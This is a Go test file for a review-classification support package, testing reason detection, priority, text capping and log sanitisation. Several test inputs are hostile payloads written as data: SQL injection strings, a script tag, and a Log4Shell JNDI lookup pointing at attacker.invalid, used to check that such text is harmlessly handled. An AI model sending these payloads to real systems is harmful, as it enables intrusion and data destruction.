package support

import (
	"log/slog"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestClassify(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		text string
		want []string
	}{
		{"Great service!", nil},
		{"Arrived quickly, exactly as described.", nil},
		{"Okay product, shipping was slow.", nil},
		{"It's fine.", nil},
		{"", nil},
		{"The item arrived broken, I want a refund.", []string{ReasonDamaged, ReasonRefund}},
		{"My package never arrived.", []string{ReasonNotDelivered}},
		{"Delivery was two weeks late.", []string{ReasonLate}},
		{"Wrong size and support never answered.", []string{ReasonNoResponse, ReasonWrongItem}},
		{"I think my card was used for fraud.", []string{ReasonFraud}},
		{"BROKEN!!! and LATE", []string{ReasonDamaged, ReasonLate}},
		{"The parcel didn't arrive", []string{ReasonNotDelivered}},
		{"the parcel didn’t arrive", []string{ReasonNotDelivered}},
		{"Not late at all, not broken either", nil},
		{"never late, great", nil},
		{"I want my money back", []string{ReasonRefund}},
		{"The tent arrived with a broken pole.\nSupport has not answered my email yet.", []string{ReasonDamaged, ReasonNoResponse}},
		// Whole words only.
		{"chocolate translated brokerage", nil},
		{"refunds are easy here", nil},
		// Hostile text is only searched for words.
		{"'; DROP TABLE orders; --", nil},
		{"<script>alert('fraud')</script>", []string{ReasonFraud}},
		{"${jndi:ldap://attacker.invalid/a}", nil},
		{"Robert'); DELETE FROM stock WHERE ('1'='1", nil},
	} {
		if got := Classify(c.text); !slices.Equal(got, c.want) {
			t.Errorf("Classify(%q) = %v, want %v", c.text, got, c.want)
		}
	}
}

func TestReasonsAndPriority(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		rating   int
		text     string
		reasons  []string
		priority string
	}{
		{5, "Great service!", nil, ""},
		{3, "Does the job.", nil, ""},
		{2, "Does the job.", []string{ReasonLowRating}, PriorityMedium},
		{1, "", []string{ReasonLowRating}, PriorityHigh},
		{0, "late", []string{ReasonLate}, PriorityLow},
		{4, "Delivery was two weeks late.", []string{ReasonLate}, PriorityLow},
		{3, "arrived broken", []string{ReasonDamaged}, PriorityMedium},
		{5, "I think my card was used for fraud.", []string{ReasonFraud}, PriorityHigh},
		{2, "My package never arrived.", []string{ReasonLowRating, ReasonNotDelivered}, PriorityHigh},
	} {
		r := Reasons(c.rating, c.text)
		if !slices.Equal(r, c.reasons) {
			t.Errorf("Reasons(%d, %q) = %v, want %v", c.rating, c.text, r, c.reasons)
		}
		if p := Priority(c.rating, r); p != c.priority {
			t.Errorf("Priority(%d, %v) = %q, want %q", c.rating, r, p, c.priority)
		}
	}
}

func TestCapAndLoggedText(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("é", 600) // 1,200 bytes
	if c := Cap(long, MaxStoredText); len(c) > MaxStoredText || !utf8.ValidString(c) || len(c) != 1000 {
		t.Fatalf("capped to %d bytes, valid %v", len(c), utf8.ValidString(c))
	}
	if c := Cap("short", MaxStoredText); c != "short" {
		t.Fatalf("Cap changed a short text: %q", c)
	}
	hostile := "<script>\x1b[31m" + long
	v := Text(hostile).LogValue()
	attrs := map[string]slog.Value{}
	for _, a := range v.Group() {
		attrs[a.Key] = a.Value
	}
	ex := attrs["excerpt"].String()
	if attrs["bytes"].Int64() != int64(len(hostile)) || !attrs["cut"].Bool() || len(ex) > 4*maxLoggedText+2 {
		t.Fatalf("logged %v", v)
	}
	if strings.ContainsRune(ex, 0x1b) || strings.ContainsRune(ex, '\n') {
		t.Fatalf("control characters reach the log: %q", ex)
	}
}

// FuzzClassify: any text classifies without panicking into known,
// sorted, distinct reasons.
func FuzzClassify(f *testing.F) {
	f.Add("The item arrived broken, I want a refund.")
	f.Add("never   arrived")
	f.Add("\xff\xfe not late")
	f.Fuzz(func(t *testing.T, text string) {
		got := Classify(text)
		if !slices.IsSorted(got) || len(slices.Compact(slices.Clone(got))) != len(got) {
			t.Fatalf("Classify(%q) = %v", text, got)
		}
		for _, r := range got {
			if _, ok := reasonPriority[r]; !ok {
				t.Fatalf("unknown reason %q", r)
			}
		}
	})
}
